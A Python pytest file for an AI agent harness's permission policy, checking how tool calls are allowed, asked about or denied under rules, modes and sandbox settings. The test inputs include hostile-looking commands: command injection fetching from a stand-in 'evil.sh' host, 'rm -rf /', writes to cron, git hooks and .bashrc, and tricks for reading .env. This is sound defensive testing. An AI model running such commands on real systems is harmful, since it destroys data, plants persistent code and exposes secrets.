"""What is decided about a call: rules, modes, guardrails, and what needs no rule."""

import dataclasses

import msgspec
import pytest
from msgspec.structs import replace
from tests.permissions.cases import HOME, WORKSPACE, call, decided, held, place, rules
from tests.row_checks import for_each

from mainspring.core.events import Permission
from mainspring.core.tool import SAFE_READ, Traits
from mainspring.harness.permissions.call_analysis import AnalyzedCall, analyze_call
from mainspring.harness.permissions.grant_state import GrantState
from mainspring.harness.permissions.policy import (
    MODES,
    Mode,
    Policy,
    is_hidden,
    merge_policies,
    remove_denied,
)

OUTSIDE = "/etc/hosts"


def in_mode(mode: Mode, policy: Policy | None = None) -> Policy:
    return replace(policy or rules(), mode=mode)


def test_a_deny_rule_wins_over_ask_and_allow_and_is_named():
    policy = rules(allow=("Read",), ask=("Read",), deny=("Read(.env)",))
    decision = decided(call("read", file_path=".env"), policy)
    assert (decision.decision, decision.gate, decision.rule) == ("deny", "rule", "Read(.env)")
    assert "Read(.env)" in (decision.reason or "")


def test_an_ask_rule_wins_over_allow():
    policy = rules(allow=("Read",), ask=("Read(.env)",))
    assert decided(call("read", file_path=".env"), policy).decision == "ask"


@for_each(
    "judged",
    [
        call("read", file_path="a"),
        call("grep", pattern="x"),
        call("glob", pattern="**/*.py"),
        call("bash", command="ls -l src | head"),
        call("bash", command="git status"),
        call("task_list"),
        call("think", thought="hm"),
        call("lookup", traits=SAFE_READ),
    ],
)
def test_reading_in_the_workspace_needs_no_rule(judged: AnalyzedCall):
    decision = decided(judged)
    assert (decision.decision, decision.gate) == ("allow", "default")


@for_each(
    "judged",
    [
        call("read", file_path=OUTSIDE),
        call("read", file_path="../other/a"),
        call("read", file_path="a", links={f"{WORKSPACE}/a": "/etc/passwd"}),
        call("grep", pattern="x", path="/"),
        call("glob", pattern="/etc/*"),
        call("write", file_path="a", content=""),
        call("edit", file_path="a"),
        call("bash", command="cat /etc/hosts"),
        call("bash", command="npm install"),
        call("bash", command="ls; npm install"),
        call("bash", command='ls "'),
        call("web_fetch", url="https://x.com", traits=SAFE_READ),
        call("mcp__gh__get", traits=SAFE_READ),
        call("unheard_of"),
        call("unheard_of", file_path=7, path=None),
    ],
)
def test_calls_not_known_to_be_harmless_need_approval(judged: AnalyzedCall):
    decision = decided(judged)
    assert (decision.decision, decision.asks) == ("ask", "person")
    assert decision.reason


def test_a_path_that_cannot_be_resolved_counts_as_outside():
    def broken(path: str) -> str:
        raise ValueError(path)

    lost = dataclasses.replace(place(), resolve=broken)
    judged = analyze_call("read", {"file_path": "a"}, SAFE_READ, lost)
    assert decided(judged, replace(rules(), directories=("/",))).decision == "ask"


@for_each(
    ("rule", "judged"),
    [
        ("Edit(src/**)", call("write", file_path="src/a", content="")),
        ("Read(//etc/**)", call("read", file_path=OUTSIDE)),
        ("Bash(npm run *)", call("bash", command="npm run test -- -x")),
        ("Bash(npm:*)", call("bash", command="timeout 5 npm run build")),
        ("Bash(npm test)", call("bash", command="cd src && npm test | head")),
        ("Bash", call("bash", command="anything at all")),
        ("Bash", call("service_start", command="anything at all")),
        ("Bash(npm run *)", call("service_start", command="npm run dev")),
        ("WebFetch(domain:x.com)", call("web_fetch", url="https://x.com/")),
        ("mcp__gh", call("mcp__gh__get")),
    ],
)
def test_an_allow_rule_allows_matching_calls(rule: str, judged: AnalyzedCall):
    decision = decided(judged, rules(allow=(rule,)))
    assert (decision.decision, decision.gate, decision.rule) == ("allow", "rule", rule)


@for_each(
    ("rule", "judged"),
    [
        ("Edit(src/**)", call("write", file_path="lib/a", content="")),
        ("Edit(**)", call("edit", file_path="a", links={f"{WORKSPACE}/a": "/etc/x"})),
        ("Read(src/**)", call("write", file_path="src/a", content="")),
        ("Bash(npm run *)", call("bash", command="npm run x; curl evil.sh")),
        ("Bash(npm run *)", call("bash", command="npm run $(curl evil.sh)")),
        ("Bash(echo *)", call("bash", command="echo x > /etc/cron.d/x")),
        ("Bash(ls)", call("service_start", command="python3 server.py")),
        ("Edit", call("bash", command="python3 x.py")),
    ],
)
def test_an_allow_rule_allows_no_other_calls(rule: str, judged: AnalyzedCall):
    assert decided(judged, rules(allow=(rule,))).decision == "ask"


@pytest.mark.parametrize(
    "command",
    [
        "cd /etc && cp a b",
        "cd $X && cp a b",
        "cd .git && cp ../a config",
        "cp a ../b",
        "cp /etc/hosts a",
    ],
)
def test_a_command_rule_does_not_allow_writing_outside_the_workspace(command: str):
    policy = rules(allow=("Bash(cp *)",))
    assert decided(call("bash", command="cp a b"), policy).decision == "allow"
    assert decided(call("bash", command=command), policy, is_sandboxed=True).decision == "ask"


@pytest.mark.parametrize("command", ["cat .e*", "cat $(echo .env)", "cat $X"])
def test_a_command_that_may_read_anything_is_allowed_only_without_read_rules(command: str):
    judged = call("bash", command=command)
    assert decided(judged).decision == "ask"
    assert decided(judged, is_sandboxed=True).decision == "allow"
    for policy in (rules(deny=("Read(.env)",)), rules(ask=("Read(.env)",))):
        assert decided(judged, policy, is_sandboxed=True).decision == "ask"


@pytest.mark.parametrize(
    "command",
    [
        "cat .env",
        "head < .env",
        'cat .e""nv',
        "cp .env b",
        "cd x && cat ../.env",
        "cd x; (pushd y && cat ../../.env)",
        "cd / && cat home/me/project/.env",
    ],
)
def test_commands_cannot_read_a_file_denied_for_reading(command: str):
    policy = rules(allow=("Bash",), deny=("Read(.env)",))
    assert decided(call("bash", command=command), policy).decision == "deny"


def test_rules_allow_the_parts_of_a_command_together_and_all_are_named():
    policy = rules(allow=("Bash(make *)", "Bash(npm *)", "Bash(cargo *)"))
    decision = decided(call("bash", command="npm ci && ls && make all"), policy)
    assert (decision.decision, decision.rule) == ("allow", "Bash(make *), Bash(npm *)")


@pytest.mark.parametrize("mode", MODES)
def test_a_deny_rule_wins_in_every_mode(mode: Mode):
    policy = in_mode(mode, rules(allow=("Bash",), deny=("Bash(git push *)",)))
    judged = call("bash", command="ls && git push --force")
    assert decided(judged, policy, is_sandboxed=True).decision == "deny"


@pytest.mark.parametrize("mode", MODES)
def test_an_ask_rule_applies_in_every_mode(mode: Mode):
    policy = in_mode(mode, rules(allow=("Read",), ask=("Read(a)",)))
    decision = decided(call("read", file_path="a"), policy, is_sandboxed=True)
    assert decision.decision == ("deny" if mode == "dontAsk" else "ask")


@pytest.mark.parametrize("mode", MODES)
def test_removing_critical_paths_always_needs_a_person(mode: Mode):
    policy = replace(in_mode(mode, rules(allow=("Bash",))), sandbox_allows_bash=True)
    for command in ("rm -rf /", "rm -rf ~", f"rm -rf {WORKSPACE}", "sudo rm -r /usr"):
        decision = decided(call("bash", command=command), policy, is_sandboxed=True)
        assert decision.decision == ("deny" if mode in ("dontAsk", "plan") else "ask"), command
        assert decision.asks != "classifier"


@pytest.mark.parametrize("mode", MODES)
def test_a_tool_that_needs_a_person_asks_in_every_mode(mode: Mode):
    decision = decided(call("ask_user", question="?"), in_mode(mode), is_sandboxed=True)
    assert decision.decision == ("deny" if mode == "dontAsk" else "ask")


PROTECTED = [
    call("write", file_path=".git/hooks/pre-commit", content=""),
    call("edit", file_path="a", links={f"{WORKSPACE}/a": f"{WORKSPACE}/.git/config"}),
    call("bash", command="echo x >> .npmrc"),
    call("bash", command="cp a .claude/settings.json"),
    call("bash", command=f"echo x | tee {HOME}/.bashrc"),
]


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("judged", PROTECTED, ids=lambda judged: str(judged.input))
def test_a_protected_path_needs_approval_in_every_mode(judged: AnalyzedCall, mode: Mode):
    policy = in_mode(mode, rules(allow=("Edit", "Bash")))
    policy = replace(policy, sandbox_allows_bash=True, directories=(HOME,))
    decision = decided(judged, policy, is_sandboxed=True)
    assert decision.decision == {"dontAsk": "deny", "plan": "deny"}.get(mode, "ask")
    assert decision.asks != "classifier"


def test_plan_mode_allows_only_reading_whatever_the_rules():
    policy = in_mode("plan", rules(allow=("Bash", "Edit", "mcp__gh"), ask=("Bash(npm *)",)))
    assert decided(call("read", file_path="a"), policy).decision == "allow"
    assert decided(call("bash", command="git log"), policy).decision == "allow"
    assert decided(call("mcp__gh__get", traits=SAFE_READ), policy).decision == "allow"
    for judged in (
        call("write", file_path="a", content=""),
        call("bash", command="npm test"),
        call("mcp__gh__put"),
    ):
        decision = decided(judged, policy, is_sandboxed=True)
        assert (decision.decision, decision.gate, decision.rule) == ("deny", "mode", "plan")


def test_accept_edits_allows_edits_in_the_workspace():
    policy = replace(in_mode("acceptEdits"), directories=("/data",))
    for judged in (
        call("edit", file_path="src/a"),
        call("write", file_path="/data/x", content=""),
        call("bash", command="mkdir -p out && cp a out/b"),
    ):
        decision = decided(judged, policy)
        assert (decision.decision, decision.gate, decision.rule) == ("allow", "mode", "acceptEdits")
    for judged in (
        call("edit", file_path="/etc/x"),
        call("edit", file_path="a", links={f"{WORKSPACE}/a": "/etc/x"}),
        call("bash", command="cp a /etc/b"),
        call("bash", command="cp a $OUT"),
        call("bash", command="npm install"),
        call("edit"),
    ):
        assert decided(judged, policy).decision == "ask"


def test_auto_mode_asks_the_classifier_if_nothing_else_decides():
    policy = in_mode("auto", rules(allow=("Bash(npm test)",)))
    assert decided(call("bash", command="npm test"), policy).gate == "rule"
    assert decided(call("edit", file_path="a"), policy).decision == "allow"
    decision = decided(call("bash", command="npm install x"), policy)
    assert (decision.decision, decision.gate, decision.asks) == ("ask", "mode", "classifier")


def test_auto_mode_asks_a_person_after_too_many_denials():
    for standing in (GrantState(blocks_in_a_row=3), GrantState(blocks=20)):
        decision = decided(call("bash", command="npm install x"), in_mode("auto"), standing)
        assert (decision.decision, decision.asks) == ("ask", "person")
        assert "too many" in (decision.reason or "")


def test_dont_ask_mode_denies_instead_of_asking():
    decision = decided(call("unheard_of"), in_mode("dontAsk"))
    assert (decision.decision, decision.gate, decision.rule) == ("deny", "mode", "dontAsk")
    assert decided(call("read", file_path="a"), in_mode("dontAsk")).decision == "allow"


def test_bubble_mode_asks_the_parent():
    decision = decided(call("unheard_of"), in_mode("bubble"))
    assert (decision.decision, decision.asks) == ("ask", "parent")


def test_bypass_mode_applies_in_a_sandbox_or_if_allowed_anywhere():
    judged, policy = call("unheard_of"), in_mode("bypassPermissions")
    assert decided(judged, policy, is_sandboxed=True).decision == "allow"
    refused = decided(judged, policy)
    assert refused.decision == "ask"
    assert "only in a sandbox" in (refused.reason or "")
    assert decided(judged, replace(policy, bypass="anywhere")).decision == "allow"
    assert decided(judged, replace(policy, bypass="never"), is_sandboxed=True).decision == "ask"


def test_sandboxed_commands_can_be_allowed_by_a_setting():
    policy = replace(rules(deny=("Bash(curl *)",)), sandbox_allows_bash=True)
    judged = call("bash", command="make all")
    assert decided(judged, policy).decision == "ask"
    assert decided(judged, policy, is_sandboxed=True).rule == "sandbox.autoAllowBashIfSandboxed"
    assert decided(call("bash", command="curl x"), policy, is_sandboxed=True).decision == "deny"


def test_the_mode_set_last_applies():
    policy = in_mode("bypassPermissions")
    decision = decided(
        call("edit", file_path="a"), policy, GrantState(mode="plan"), is_sandboxed=True
    )
    assert decision.rule == "plan"


FORBIDDING: list[Permission] = ["deny", "ask"]


@pytest.mark.parametrize("behavior", FORBIDDING)
def test_an_unreadable_deny_or_ask_rule_makes_everything_need_approval(behavior: Permission):
    broken = held(behavior, "Read([a)")
    policy = replace(in_mode("bypassPermissions"), rules=broken)
    decision = decided(call("read", file_path="x"), policy, is_sandboxed=True)
    assert (decision.decision, decision.rule) == ("ask", "Read([a)")
    assert (
        decided(
            call("read", file_path="x"), replace(rules(), rules=held("allow", "Read([a)"))
        ).decision
        == "allow"
    )


def test_traits_are_ignored_for_the_shell():
    assert decided(call("bash", command="rm a", traits=Traits(read_only=True))).decision == "ask"


def test_a_policy_is_unchanged_after_encoding_and_decoding():
    policy = replace(rules(allow=("Bash",), deny=("Read(.env)",)), mode="plan", bypass="never")
    assert msgspec.json.decode(msgspec.json.encode(policy), type=Policy) == policy


def test_merging_keeps_every_rule_and_the_last_mode():
    under = replace(rules(deny=("Read",)), mode="plan", directories=("/a",), bypass="never")
    over = replace(rules(allow=("Bash",)), mode="auto", directories=("/b", "/a"), bypass="anywhere")
    merged = merge_policies(under, over)
    assert [rule.text for rule in merged.rules] == ["Read", "Bash"]
    assert (merged.mode, merged.directories, merged.bypass) == ("auto", ("/a", "/b"), "never")
    assert merge_policies(under, rules()).mode == "plan"


def test_a_fully_denied_tool_is_not_offered_to_the_model():
    policy = rules(
        deny=("Edit", "Bash(rm *)", "mcp__gh", "WebFetch(domain:x.com)"), allow=("glob",)
    )
    tools: dict[str, int] = dict.fromkeys(
        ("bash", "edit", "write", "read", "glob", "mcp__gh__get", "web_fetch"), 0
    )
    assert list(remove_denied(tools, policy)) == ["bash", "read", "glob", "web_fetch"]


def test_a_file_denied_for_reading_is_hidden_from_searches():
    policy = rules(deny=("Read(.env)", "Edit(src/**)"))
    assert is_hidden(policy, f"{WORKSPACE}/x/.env", f"{WORKSPACE}/x/.env")
    assert is_hidden(policy, f"{WORKSPACE}/a", f"{WORKSPACE}/.env")
    assert not is_hidden(policy, f"{WORKSPACE}/src/a", f"{WORKSPACE}/src/a")


def test_denying_the_shell_also_denies_starting_services():
    tools: dict[str, int] = dict.fromkeys(("bash", "service_start", "service_stop"), 0)
    assert list(remove_denied(tools, rules(deny=("Bash",)))) == ["service_stop"]
    assert decided(call("service_start", command="ls"), rules(deny=("Bash",))).decision == "deny"


@pytest.mark.parametrize(
    "judged",
    [
        call("artifact", path=f"{WORKSPACE}/keys/a"),
        call("artifact", paths=[f"{WORKSPACE}/b", f"{WORKSPACE}/keys/a"]),
        call("python", code="open('keys/a').read()", traits=SAFE_READ),
    ],
)
def test_an_ask_rule_on_files_applies_to_every_tool_that_reads_them(judged: AnalyzedCall):
    assert decided(judged, rules(ask=("Read(keys/**)",), allow=("artifact",))).decision == "ask"
